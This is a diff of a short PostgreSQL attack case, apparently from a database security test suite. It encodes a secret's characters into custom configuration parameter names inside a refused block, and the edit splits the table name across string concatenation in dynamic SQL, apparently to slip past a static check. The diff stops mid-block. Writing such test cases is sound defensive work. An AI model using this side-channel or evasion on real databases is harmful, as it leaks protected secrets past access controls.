@@ -1,8 +1,8 @@
 -- Makes up a parameter for each letter of the value in a block that is refused, and asks which there are.
 -- wants: read
--- known: a parameter that was made up stays known when its value is undone, and nothing lists such names
 -- attack:
-DO $$ DECLARE value text := (SELECT secret FROM vlt_account WHERE id = 1); BEGIN
+DO $$ DECLARE value text; BEGIN
+  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
   FOR n IN 1..15 LOOP
     PERFORM set_config(format('x.y%s_%s', n, ascii(substr(value, n, 1))), '', true);
   END LOOP;
